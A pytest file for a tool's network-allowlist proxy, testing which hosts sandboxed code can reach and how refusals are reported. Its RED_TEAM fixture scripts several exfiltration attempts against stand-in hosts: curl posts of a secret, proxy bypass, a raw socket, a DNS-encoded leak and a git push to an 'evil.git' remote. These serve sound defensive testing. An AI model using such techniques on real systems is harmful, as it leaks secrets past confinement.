"""Lane network by allowlist (issue 60): with a list, lane code has no network of its own and
reaches the hosts the list names through imm's proxy — over CONNECT and plain HTTP, judged by
the name asked for — and nothing else; each refusal is told with the line that allows it.

The hosts are stand-ins on 127.0.0.1 (no internet here), named in a hosts file imm's proxy
resolves by (`IMM_PROXY_HOSTS`). Checks run through the real check path (`Verifier`, the
sandbox, `CheckPlace`); executors through `imm run`."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from imm_action.git.repo import GitRepo
from imm_action.model.descriptor import parse_descriptor
from imm_action.model.network import NetworkMode
from imm_action.model.outcome import CheckResult
from imm_action.sandbox.choice import choose_confinement
from imm_action.sandbox.proxy import HOSTS_VARIABLE, NetworkReach
from imm_action.verify.check_setup import CheckPlace
from imm_action.verify.checks import Check, TreeJob, Verifier
from imm_action.verify.result_cache import ResultCache
from tests.batch_helpers import make_project
from tests.conftest import descriptor, git, make_repo, run_cli
from tests.network_world import UserProxy, hosts_file, web_host

# Asks for each URL through the proxy the environment names: plain HTTP (absolute-form) and
# CONNECT (a tunnel); prints {url: what came back, or the refusal}.
PROBE = """
import http.client, json, os, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY", "http://127.0.0.1:1"))
said = {}
for how, url in json.loads(sys.argv[1]):
    parts = urllib.parse.urlsplit(url)
    try:
        connection = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=10)
        if how == "connect":
            connection.set_tunnel(parts.hostname, parts.port)
            connection.request("GET", "/")
        else:
            connection.request("GET", url)
        answer = connection.getresponse()
        said[how + " " + url] = f"{answer.status} {answer.read().decode().strip()}"
    except OSError as error:
        said[how + " " + url] = f"error {error}"
print(json.dumps(said))
"""


LOGGED: list[str] = []  # what the checks' place logged


@pytest.fixture
def port(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
    LOGGED.clear()
    monkeypatch.setenv(HOSTS_VARIABLE, str(hosts_file(tmp_path)))
    with web_host() as serving:
        yield serving


def _check_run(
    tmp_path: Path,
    policy: NetworkMode | list[str],
    asks: list[tuple[str, str]],
    queued: bool = False,
) -> tuple[dict[str, str], CheckResult]:
    """One check in the sandbox with `check_network: policy`, asking for `asks`; run as a
    group of one tree's checks, or (`queued`) from the queue the integrator pulls from."""
    root = make_repo(tmp_path / "r", {"probe.py": PROBE})
    repo = GitRepo(root)
    tree = git(root, "rev-parse", "HEAD^{tree}").strip()
    confinement = choose_confinement(
        "auto", holds_credential=False, git_folders=[repo.common_directory()]
    )
    assert confinement.active, confinement.why
    reach = NetworkReach(policy, "check_network", confined=True)
    place = CheckPlace(confinement, os.environ["PATH"], reach=reach, log=LOGGED.append)
    check = Check("t:net", parse_descriptor(descriptor(["probe.py", json.dumps(asks)])))
    try:
        verifier = Verifier(repo, ResultCache(), path_env=os.environ["PATH"], place=place)
        if queued:
            [[result]] = verifier.verify_queued([TreeJob(tree, (check,))])
        else:
            [result] = verifier.verify(tree, [check])
    finally:
        place.close()
    assert result.exit_code == 0, result
    return json.loads(result.output_tail.strip().splitlines()[-1]), result


@pytest.mark.parametrize("queued", [False, True], ids=["grouped", "queued"])
def test_a_check_reaches_a_listed_host_over_connect_and_plain_http_and_no_other(
    tmp_path: Path, port: int, queued: bool
) -> None:
    asks = [(how, f"http://{host}:{port}/") for host in ("allowed.test", "other.test")
            for how in ("plain", "connect")]  # fmt: skip
    said, result = _check_run(tmp_path, ["allowed.test"], asks, queued)
    assert said[f"plain http://allowed.test:{port}/"] == f"200 hello from allowed.test:{port}"
    assert said[f"connect http://allowed.test:{port}/"].startswith("200 hello from allowed.test")
    assert said[f"plain http://other.test:{port}/"].startswith("403 ")
    assert said[f"connect http://other.test:{port}/"].startswith("error ")  # the tunnel refused
    assert result.blocked_hosts == [f"other.test:{port}"]
    logged = [line for line in LOGGED if "refused at" in line]  # with when, and how often
    assert len(logged) == 1
    assert logged[0].startswith("t:net: refused at ")
    assert f"UTC (2 times): other.test:{port} is not on check_network" in logged[0]


def test_a_bare_address_is_refused_though_the_name_it_stands_for_is_listed(
    tmp_path: Path, port: int
) -> None:
    asks = [("connect", f"http://127.0.0.1:{port}/"), ("plain", f"http://127.0.0.1:{port}/")]
    said, result = _check_run(tmp_path, ["allowed.test"], asks)
    assert said[f"plain http://127.0.0.1:{port}/"].startswith("403 ")
    assert said[f"connect http://127.0.0.1:{port}/"].startswith("error ")
    assert result.blocked_hosts == [f"127.0.0.1:{port}"]


def test_a_wildcard_admits_the_names_below_it_and_not_its_own(tmp_path: Path, port: int) -> None:
    asks = [("plain", f"http://api.allowed.test:{port}/"),
            ("plain", f"http://allowed.test:{port}/")]  # fmt: skip
    said, result = _check_run(tmp_path, ["*.allowed.test"], asks)
    assert said[f"plain http://api.allowed.test:{port}/"].startswith("200 hello from api.")
    assert said[f"plain http://allowed.test:{port}/"].startswith("403 ")
    assert result.blocked_hosts == [f"allowed.test:{port}"]


def test_none_leaves_a_check_no_way_out(tmp_path: Path, port: int) -> None:
    code = (
        "import socket, sys; s = socket.socket(); s.settimeout(5); "
        f"sys.exit(0 if s.connect_ex(('127.0.0.1', {port})) else 1)"
    )
    root = make_repo(tmp_path / "r", {"README.md": "hi\n"})
    repo = GitRepo(root)
    tree = git(root, "rev-parse", "HEAD^{tree}").strip()
    confinement = choose_confinement("auto", holds_credential=False,
                                     git_folders=[repo.common_directory()])  # fmt: skip
    place = CheckPlace(confinement, os.environ["PATH"],
                       reach=NetworkReach("none", "check_network", confined=True))  # fmt: skip
    check = Check("t:none", parse_descriptor(descriptor(["-c", code])))
    try:
        [result] = Verifier(repo, ResultCache(), path_env=os.environ["PATH"], place=place).verify(
            tree, [check]
        )
    finally:
        place.close()
    assert result.passed, result  # could not connect


def _imm_run(
    repo: Path, tmp_path: Path, executor: str, **env: str
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "imm_action", "run", "init", "--repo", str(repo), "--executor",
         executor],
        env={**os.environ, "HOME": str(tmp_path), "IMM_TEST_DIR": str(tmp_path), **env},
        capture_output=True, text=True, check=False, timeout=300,
    )  # fmt: skip


def _asking_executor(asks: list[tuple[str, str]], out: Path, *, fail: bool = False) -> str:
    """An executor that asks for `asks` (PROBE), keeps what it saw and its environment in
    `out`, writes its task's file, and fails when a listed host did not answer (or, `fail`,
    when it did: an agent that gives up)."""
    body = (
        "import json, os, pathlib, subprocess, sys\n"
        "t = os.environ['IMM_TASK_ID']; out = pathlib.Path(sys.argv[1])\n"
        f"said = subprocess.run([sys.executable, '-c', {PROBE!r}, {json.dumps(asks)!r}], "
        "capture_output=True, text=True).stdout\n"
        "(out / 'said.json').write_text(said)\n"
        "(out / 'environ.json').write_text(json.dumps(dict(os.environ)))\n"
        "pathlib.Path(t + '.txt').write_text(t)\n"
        "reached = all(v.startswith('200') for k, v in json.loads(said).items() "
        "if 'allowed' in k)\n"
        f"sys.exit(1 if reached == {fail} else 0)\n"
    )
    return shlex.join([sys.executable, "-c", body, str(out)])


def test_an_executor_is_held_to_lane_network_and_its_report_names_the_refused_host_and_line(
    tmp_path: Path, port: int
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    allowed, other, bare = (f"http://{host}:{port}/" for host in ("allowed.test", "other.test",
                                                                  "127.0.0.1"))  # fmt: skip
    asks = [("connect", allowed), ("plain", allowed), ("plain", other), ("connect", bare)]
    # an agent that gives up: the report shows what was refused it
    executor = _asking_executor(asks, out, fail=True)
    config = "lane_network: [allowed.test]\n"
    repo = make_project(tmp_path / "r", {"a": []}, extra_files={".github/imm.yml": config})
    done = _imm_run(repo, tmp_path, executor, **{HOSTS_VARIABLE: str(hosts_file(tmp_path))})
    said = json.loads((out / "said.json").read_text())
    assert said[f"connect http://allowed.test:{port}/"].startswith("200 hello from allowed.test")
    assert said[f"plain http://allowed.test:{port}/"] == f"200 hello from allowed.test:{port}"
    assert said[f"plain http://other.test:{port}/"].startswith("403 ")
    assert said[f"connect http://127.0.0.1:{port}/"].startswith("error ")  # a bare address
    report = done.stdout + done.stderr
    assert done.returncode == 1, report
    line = f'other.test:{port} is not on lane_network: add "other.test:{port}" to lane_network'
    assert f"refused: {line}" in report


def test_the_users_proxy_credentials_stay_with_imm_and_never_reach_lane_code(
    tmp_path: Path, port: int
) -> None:
    user = UserProxy("alice", "s3cret-proxy-pass")
    out = tmp_path / "out"
    out.mkdir()
    asks = [("connect", f"http://allowed.test:{port}/")]
    config = "lane_network: [allowed.test]\n"
    repo = make_project(tmp_path / "r", {"a": []}, extra_files={".github/imm.yml": config})
    upstream = f"http://alice:s3cret-proxy-pass@127.0.0.1:{user.port}"
    try:
        done = _imm_run(repo, tmp_path, _asking_executor(asks, out),
                        HTTPS_PROXY=upstream, https_proxy=upstream, NO_PROXY="",
                        **{HOSTS_VARIABLE: str(hosts_file(tmp_path))})  # fmt: skip
    finally:
        user.close()
    assert done.returncode == 0, done.stdout + done.stderr
    assert user.authorized == [f"allowed.test:{port}"]  # through the user's proxy, logged in
    seen = (out / "environ.json").read_text() + (out / "said.json").read_text()
    assert "s3cret-proxy-pass" not in seen
    assert json.loads((out / "environ.json").read_text())["HTTPS_PROXY"].startswith(
        "http://127.0.0.1:"
    )


RED_TEAM = """
import json, os, pathlib, socket, subprocess, sys
out, port, secret = pathlib.Path(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
tried = {}
def run(*argv):
    done = subprocess.run(argv, capture_output=True, text=True, timeout=30)
    return done.returncode, (done.stdout + done.stderr)[-300:]
tried["curl"] = run("curl", "-s", "-S", "--max-time", "5", "-d", secret,
                    f"http://other.test:{port}/curl")
tried["curl direct"] = run("curl", "-s", "-S", "--max-time", "5", "--noproxy", "*", "-d", secret,
                           f"http://127.0.0.1:{port}/direct")
try:
    socket.create_connection(("127.0.0.1", port), timeout=5).sendall(secret.encode())
    tried["socket"] = (0, "connected")
except OSError as error:
    tried["socket"] = (1, str(error))
try:
    socket.getaddrinfo(secret.encode().hex() + ".exfil.test", 80)
    tried["dns"] = (0, "resolved")
except OSError as error:
    tried["dns"] = (1, str(error))
tried["git push"] = run("git", "push", f"http://other.test:{port}/evil.git", "HEAD:refs/heads/x")
(out / "tried.json").write_text(json.dumps(tried))
t = os.environ["IMM_TASK_ID"]; pathlib.Path(t + ".txt").write_text(t)
"""


def test_the_red_teams_ways_out_are_all_refused_with_a_list_set(tmp_path: Path, port: int) -> None:
    """curl through the proxy and around it, a raw socket, a DNS lookup carrying the secret,
    a git push to another remote: none gets out, and the web host sees none of them."""
    from tests.network_world import SEEN

    out = tmp_path / "out"
    out.mkdir()
    secret = "imm-red-team-secret-4f1d"
    executor = shlex.join([sys.executable, "-c", RED_TEAM, str(out), str(port), secret])
    config = "lane_network: [allowed.test]\n"
    repo = make_project(tmp_path / "r", {"a": []}, extra_files={".github/imm.yml": config})
    SEEN.clear()
    done = _imm_run(repo, tmp_path, executor, **{HOSTS_VARIABLE: str(hosts_file(tmp_path))})
    tried = json.loads((out / "tried.json").read_text())
    assert tried["curl"][1].startswith("imm: other.test:"), tried  # the proxy's refusal
    for way in ("curl direct", "socket", "dns", "git push"):
        assert tried[way][0] != 0, (way, tried[way])
    assert SEEN == [], SEEN
    assert done.returncode == 0, done.stdout + done.stderr


def test_a_host_refused_a_lane_that_lands_is_named_once_in_the_batch_report_with_its_line(
    tmp_path: Path, port: int
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    asks = [("connect", f"http://allowed.test:{port}/"), ("plain", f"http://other.test:{port}/"),
            ("connect", f"http://other.test:{port}/")]  # fmt: skip
    config = "lane_network: [allowed.test]\n"
    repo = make_project(tmp_path / "r", {"a": []}, extra_files={".github/imm.yml": config})
    done = _imm_run(repo, tmp_path, _asking_executor(asks, out),
                    **{HOSTS_VARIABLE: str(hosts_file(tmp_path))})  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    line = (f'refused: other.test:{port} is not on lane_network: add "other.test:{port}" to '
            "lane_network in .github/imm.yml to allow it")  # fmt: skip
    assert (done.stdout + done.stderr).count(line) == 1
    from tests.batch_helpers import current

    report = current(repo).report
    assert report is not None
    assert report.unconfined == [line]


def test_a_list_entry_that_is_no_host_is_told_at_its_own_line_and_nothing_else(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Not also "should be 'open' or 'none'" (the other shape, judged too), nor a regex."""
    config = "max_parallel: 2\nlane_network:\n  - api.anthropic.com\n  - https://evil.test\n"
    root = make_repo(tmp_path / "r", {".github/imm.yml": config})
    code, out, err = run_cli(capsys, "check", "--repo", str(root))
    assert code == 2
    said = [line for line in (out + err).splitlines() if line.startswith(".github/imm.yml")]
    assert said == [
        ".github/imm.yml:4: lane_network.1: 'https://evil.test' is not a host, *.host or host:port"
    ]
